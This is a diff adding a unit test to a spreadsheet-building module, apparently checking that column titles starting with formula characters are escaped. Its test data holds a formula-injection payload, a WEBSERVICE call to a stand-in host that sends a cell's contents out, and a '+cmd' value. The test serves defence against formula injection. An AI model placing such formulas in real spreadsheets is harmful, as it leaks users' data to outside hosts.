@@ -41,6 +41,13 @@ describe('the cells of new columns', () => {
     expect(cells[2]).toEqual(['=LOCATTR_ADDRESS($A3,$C3,D$1)']);
   });
 
+  it('are headed by no formula, whatever somebody’s list calls them', async () => {
+    const titles = ['=WEBSERVICE("https://x.example/?"&B2)', '+cmd', "'quoted"];
+    const names = ['w_a', 'w_b', 'w_c'];
+    const { cells } = await enrichmentBlock({ ...LIST, names, titles }, turn);
+    expect(cells[0]).toEqual([`'${titles[0]}`, 'w_b', "''quoted"]);
+  });
+
   it('have the number formats of what they hold, and a score none', async () => {
     const formats = ['#,##0', undefined];
     expect((await enrichmentBlock({ ...LIST, formats }, turn)).formats).toEqual(formats);
